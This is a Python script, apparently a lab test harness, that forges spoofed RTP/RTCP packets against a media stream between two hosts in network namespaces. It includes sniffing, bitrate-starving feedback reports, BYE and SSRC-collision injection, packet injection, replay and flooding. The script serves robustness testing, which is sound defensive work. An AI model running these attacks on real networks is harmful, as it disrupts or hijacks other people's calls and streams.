#!/usr/bin/python3
# SPDX-License-Identifier: LGPL-2.1-or-later
"""An attacker of a stream between two hosts, on a host of its own.

    forger.py JSON

with the fields own, sender, receiver ([address, port]), reads (the path of
the network namespace whose packets it may read), srtp (packets look
protected).  Lines on stdin name the attack that goes on from then on, "rest"
none.  Nothing is sent to anybody else."""

import ctypes
import json
import os
import random
import socket
import sys
import threading
import time

import forged_packets as forged

CLONE_NEWNET = 0x40000000
ETH_P_ALL = 0x0003
RAW_SIZE = 2048
# Attacks come in ticks.
TICK_S = 0.02
FLOOD_PER_TICK = 40


def open_reader(namespace):
    """Reads what passes in another namespace; ours stays what it is."""
    libc = ctypes.CDLL(None, use_errno=True)
    with open("/proc/thread-self/ns/net", encoding="ascii") as own, \
            open(namespace, encoding="ascii") as other:
        if libc.setns(other.fileno(), CLONE_NEWNET):
            raise OSError(ctypes.get_errno(), f"setns: {namespace}")
        try:
            return socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM,
                                 socket.htons(ETH_P_ALL))
        finally:
            libc.setns(own.fileno(), CLONE_NEWNET)


class Forger:

    def __init__(self, spec):
        self.own, self.sender, self.receiver = (
            tuple(spec[name]) for name in ("own", "sender", "receiver"))
        self.srtp = spec["srtp"]
        self.raw = socket.socket(socket.AF_INET, socket.SOCK_RAW,
                                 socket.IPPROTO_RAW)
        self.heard = forged.Heard(self.sender, self.receiver)
        self.dice = random.Random(1)
        self.ssrc = self.dice.getrandbits(32)
        self.seq = 0
        self.sent = 0
        self.attack = self.rest
        reader = open_reader(spec["reads"])
        threading.Thread(target=self.read, args=(reader,),
                         daemon=True).start()

    def read(self, reader):
        while True:
            self.heard.take(reader.recv(RAW_SIZE), time.monotonic())

    def run(self):
        """Until stdin ends."""
        threading.Thread(target=self.obey, daemon=True).start()
        while self.attack is not None:
            self.attack()
            time.sleep(TICK_S)

    def obey(self):
        for line in sys.stdin:
            name = line.strip()
            self.ssrc = self.dice.getrandbits(32)
            self.attack = getattr(self, name.replace("-", "_"))
            print(json.dumps({"attack": name, "sent": self.sent}),
                  flush=True)
        self.attack = None

    def send(self, source, destination, payload):
        self.raw.sendto(forged.datagram(source, destination, payload),
                        (destination[0], 0))
        self.sent += 1

    def send_data(self, source, **fields):
        self.send(source, self.receiver, forged.rtp(**fields)
                  + (forged.SRTP_TAG if self.srtp else b""))

    def send_rtcp(self, source, destination, payload):
        self.send(source, destination, payload
                  + (forged.SRTCP_TRAILER if self.srtp else b""))

    def any(self):
        return self.dice.getrandbits(32)

    def now_us(self):
        """The stream's clock, for who reads it."""
        return self.heard.send_time_us + int(
            1e6 * (time.monotonic() - self.heard.heard_at))

    # Attacks, a tick of each.

    def rest(self):
        pass

    def _blind(self, as_sender, as_receiver):
        """Without any SSRC or clock: a stream with holes, reports of the
        worst, and RTCP of somebody unknown to both."""
        self.seq += 2 if self.seq % 7 == 0 else 1
        self.send_data(as_sender, ssrc=self.ssrc, seq=self.seq,
                       timestamp=self.seq * 3000,
                       send_time_us=int(time.monotonic() * 1e6))
        self.send_rtcp(as_receiver, self.sender, forged.feedback(
            self.any(), self.any(), self.any(), 0, forged.ONE))
        for source, destination in ((as_sender, self.receiver),
                                    (as_receiver, self.sender)):
            ssrc = self.any()
            self.send_rtcp(source, destination, forged.sender_report(ssrc)
                           + forged.description(ssrc))
            self.send_rtcp(source, destination, forged.bye(self.any()))

    def own_address(self):
        self._blind(self.own, self.own)

    def spoofed(self):
        self._blind(self.sender, self.receiver)

    def guessing(self):
        """A clock after the other: five packets with a hole in each."""
        ssrc, start, seq = self.any(), self.any(), self.any()
        for step in (0, 1, 3, 4, 5):
            self.send_data(self.sender, ssrc=ssrc, seq=seq + step,
                           timestamp=0, send_time_us=start + 1000 * step)

    def flood(self):
        """2000 a second to each, from made up ports."""
        for _ in range(FLOOD_PER_TICK):
            source = (self.own[0], self.dice.randrange(1024, 65536))
            self.send_data(source, ssrc=self.any(), seq=self.any(),
                           timestamp=0, send_time_us=self.any())
            self.send_rtcp(source, self.sender, forged.feedback(
                self.any(), self.any(), self.any(), 0, forged.ONE))

    # From here on with what the packets show.

    def _report(self, receive_rate, p):
        """A report on the newest packet, before the receiver's own."""
        if self.heard.report_ssrc is not None:
            self.send_rtcp(self.receiver, self.sender, forged.feedback(
                self.heard.report_ssrc, self.heard.ssrc,
                self.heard.send_time_us, receive_rate, p))

    def starve(self):
        self._report(1, forged.ONE)

    def inflate(self):
        self._report(forged.ONE, 0)

    def say_bye(self):
        self.send_rtcp(self.sender, self.receiver,
                       forged.bye(self.heard.ssrc))
        self.send_rtcp(self.receiver, self.sender,
                       forged.bye(self.heard.report_ssrc))

    def collide(self):
        """Each hears somebody else use its SSRC."""
        self.send_rtcp(self.sender, self.receiver, forged.sender_report(
            self.heard.report_ssrc) + forged.description(
                self.heard.report_ssrc))
        self.send_rtcp(self.receiver, self.sender, forged.receiver_report(
            self.heard.ssrc) + forged.description(self.heard.ssrc))

    def ask_key_frames(self):
        self.send_rtcp(self.receiver, self.sender, forged.key_frame_request(
            self.heard.report_ssrc, self.heard.ssrc))

    def take_pad(self):
        """A stream beside the sender's, by its clock."""
        self.seq += 1
        self.send_data(self.sender, ssrc=self.ssrc, seq=self.seq,
                       timestamp=self.seq * 900, send_time_us=self.now_us(),
                       extension_id=self.heard.extension_id)

    def inject(self, source=None):
        """Into the sender's stream, a packet ahead of it."""
        self.send_data(source or self.sender, ssrc=self.heard.ssrc,
                       seq=self.heard.seq + 2,
                       timestamp=self.heard.timestamp + 3000,
                       send_time_us=self.now_us(),
                       extension_id=self.heard.extension_id)

    def draw_reports(self):
        """So that the receiver reports to us."""
        self.inject(self.own)

    def replay(self):
        """What was heard once more, from there and from here."""
        for source in (self.sender, self.own):
            self.send(source, self.receiver, self.heard.data)
        for source in (self.receiver, self.own):
            self.send(source, self.sender, self.heard.report)


if __name__ == "__main__":
    if os.geteuid() != 0:
        sys.exit("forger.py: raw sockets need root")
    Forger(json.loads(sys.argv[1])).run()
